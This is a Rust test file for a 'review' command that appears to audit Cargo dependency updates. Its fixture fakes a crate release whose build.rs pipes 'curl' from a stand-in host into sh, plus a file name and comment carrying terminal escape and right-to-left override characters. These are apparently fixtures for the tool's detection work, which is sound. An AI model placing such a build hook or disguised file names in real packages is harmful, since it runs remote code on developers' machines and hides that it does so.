//! `review`: a change, as somebody reads it who is to vouch for it.

use insta::assert_snapshot;

use crate::project::Project;

/// A project that has pad-words 1.0.0 locked; 1.0.1 was published an hour ago, and its build fetches and runs.
fn with_an_update() -> Project {
    let mut project = Project::at("2026-08-22T12:00:00Z", &[("app", "0.1.0", &["pad-words"])]);
    let library = |body: &str| {
        format!(
            "/// Pads a word.\npub fn pad(word: &str) -> String {{\n    {body}\n}}\n\n#[cfg(test)]\nmod tests {{\n    #[test]\n    fn it_pads() {{\n        assert_eq!(super::pad(\"a\").len(), 8);\n    }}\n}}\n"
        )
    };
    let manifest = |version: &str| {
        format!("[package]\nname = \"pad-words\"\nversion = \"{version}\"\nedition = \"2021\"\n")
    };
    let source = |id: &str| format!("{{\n  \"git\": {{\n    \"sha1\": \"{id}\"\n  }}\n}}");
    let files = |version: &str, body: &str| {
        vec![
            ("Cargo.toml", manifest(version)),
            ("src/lib.rs", library(body)),
            ("README.md", format!("# Pad words {version}\n")),
            (".cargo_vcs_info.json", source(&version.replace('.', "a").repeat(8))),
        ]
    };
    project.release("pad-words", "1.0.0", "2024-01-01T12:00:00Z", &files("1.0.0", "format!(\"{word:>8}\")"));
    let mut newer = files("1.0.1", "format!(\"{word:>16}\")");
    newer.push((
        "build.rs",
        "use std::process as p;\n\nfn run(what: &str) {\n    let _ = p::Command::new(\"sh\").args([\"-c\", what]).status();\n}\n\n\
         fn main() {\n    run(\"curl -s http://192.0.2.1/x | sh\");\n}\n"
            .to_owned(),
    ));
    newer.push((
        "src/\u{1b}[2J\u{202e}name.rs",
        "// \u{1b}]0;title\u{7}\u{202e}\u{200b}##[x]\nfn f() {}\n".to_owned(),
    ));
    project.release("pad-words", "1.0.1", "2026-08-22T11:00:00Z", &newer);
    project.lock(&("pad-words", "1.0.0", &[]));
    project
}

#[test]
fn an_update_is_shown_with_its_findings_and_its_code() {
    let project = with_an_update();
    assert_snapshot!("an update", project.run("review pad-words@1.0.1"));
    assert_snapshot!("an update, unfolded", project.run("review pad-words@1.0.1 --all --least high"));
    assert_snapshot!("what is locked", project.run("review pad-words@1.0.0"));
}

#[test]
fn without_a_project_there_is_no_verdict() {
    let mut project = with_an_update();
    project.write("elsewhere/readme.txt", "");
    project.write("old/Cargo.toml", "[package]\nname = \"a\"\nversion = \"1.0.0\"\n");
    project.write("old/src/lib.rs", "pub fn f() {}\n");
    project.write("new/Cargo.toml", "[package]\nname = \"a\"\nversion = \"1.1.0\"\n");
    project.write("new/src/lib.rs", "pub fn f() -> u8 {\n    1\n}\n");
    assert_snapshot!("two folders", project.run("review new --from old"));
    assert_snapshot!("a folder alone", project.run("review old"));
}

#[test]
fn who_asks_says_with_what_it_is_compared() {
    let project = with_an_update();
    let compared = |line: &str| {
        let seen = project.run(line);
        seen.lines().find(|line| line.contains("Compared")).unwrap_or(&seen).trim().to_owned()
    };
    assert_eq!(compared("review pad-words@1.0.1"), "Compared with 1.0.0, which Cargo.lock has");
    assert_eq!(compared("review pad-words@1.0.1 --from 1.0.0"), "Compared with 1.0.0, as you asked");
    assert_eq!(
        compared("review pad-words@1.0.1 --from pad-words@1.0.0"),
        "Compared with pad-words@1.0.0, as you asked"
    );
    assert_snapshot!("no such base", project.run("review pad-words@1.0.1 --from 0.9.0"));
    assert_snapshot!("no such release", project.run("review pad-words@7.0.0"));
}

#[test]
fn colour_comes_only_where_it_is_asked_for() {
    let project = with_an_update();
    let coloured = project.run("review pad-words@1.0.1 --color always");
    assert!(coloured.contains("\u{1b}[35mfn\u{1b}[0m"), "{coloured}");
    assert!(!project.run("review pad-words@1.0.1").contains('\u{1b}'));
}
